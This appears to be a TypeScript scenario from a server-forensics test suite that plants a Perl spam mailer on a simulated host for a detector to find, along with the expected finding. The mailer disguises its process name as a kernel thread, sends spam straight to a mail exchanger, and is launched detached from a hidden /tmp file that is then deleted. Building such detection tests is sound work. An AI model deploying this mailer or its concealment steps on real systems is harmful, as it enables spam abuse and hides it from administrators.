import { drawShops, startHosting } from '../play/hosting.ts';
import { drawOutsiders } from '../play/names.ts';
import { ordinaryMail, ordinaryRules, ordinaryVisits } from '../play/ordinary.ts';
import type { Stage, Story, Truth } from '../play/stage.ts';
import { after, everydayWork, play } from '../play/timeline.ts';
import { docroot } from '../programs/apache.ts';

/** Mail exchangers elsewhere, on the cable that leads there. */
const cable = '2001:db8:ee::';
const exchanger = `${cable}25`;

/** A mailer that calls itself a kernel thread, delivers straight to the exchanger of its victims, and waits with the last connection open. */
function mailer(disguise: string, recipients: readonly string[], sender: string): string {
  return `#!/usr/bin/perl
use IO::Socket::IP;
$0 = '${disguise}';
my @to = qw(${recipients.join(' ')});
while (1) {
    my $s = IO::Socket::IP->new(PeerHost => '${exchanger}', PeerPort => 25, Timeout => 10) or sleep(1), next;
    my $say = sub { print $s "$_[0]\\r\\n" if defined $_[0]; my $a; do { $a = <$s> } while (defined $a && $a =~ /^\\d{3}-/); };
    $say->(undef); $say->('EHLO mail.${sender.split('@')[1]}');
    for my $to (splice(@to, 0, 10)) { $say->("MAIL FROM:<${sender.replace('@', '\\@')}>"); $say->("RCPT TO:<$to>"); $say->('DATA'); $say->("Subject: hello\\r\\n\\r\\nhttp://x.example\\r\\n."); }
    sleep 900000 unless @to;
    close $s;
}
`;
}

async function playDirectToMx({ box, random, span }: Stage): Promise<Truth> {
  const sites = drawShops(random, 3);
  const guilty = random.pick(['deploy', 'anton', 'builder']);
  const disguise = random.pick(['[kworker/u8:2-events]', '[kthreadd]', '/usr/sbin/cron -f', 'crond']);
  const victims = drawOutsiders(random, 30);
  await startHosting(box, {
    sites,
    php: 'module',
    log: 'stock',
    rules: ordinaryRules(random, sites),
    clients: [guilty],
  });
  const path = `/tmp/.${random.token(5)}`;
  await box.write({ path, owner: `${guilty}:${guilty}`, mode: '0755', text: mailer(disguise, victims, `x@${random.token(6)}.example`) });
  await box.runElsewhere(['/opt/node/bin/node', '/opt/lab/sink.mjs', '::'], cable);
  await play(box, [
    ...everydayWork(box, span),
    {
      at: after(span.to, -1200),
      run: async () => {
        await box.script(`setsid /usr/bin/perl ${path} > /dev/null 2>&1 < /dev/null & sleep 0.5; rm ${path}`, { user: guilty });
        box.keepRunning();
      },
    },
    ...sites.flatMap((site) => [
      ...ordinaryMail(random.branch(site.domain), site, span, random.int(10, 16)),
      ...ordinaryVisits(random.branch(site.domain), site, span, random.int(4, 7)),
    ]),
  ]);

  const id = `process:${guilty}:/usr/bin/perl`;
  return {
    findings: [{ id, natures: ['direct-to-mx'], confidence: 'certain', active: true, proofs: ['process', 'socket'], figures: {} }],
    onCopy: [],
    innocents: sites.flatMap((site) => [docroot(site), site.domain]),
    cleared: [],
    without: [],
  };
}

/** Story 14. */
export const directToMx: Story = {
  id: 'direct-to-mx',
  suite: 'bookworm',
  tells: 'a perl under a false name delivers straight to mail exchangers: the mail server here knows nothing of it',
  play: playDirectToMx,
};
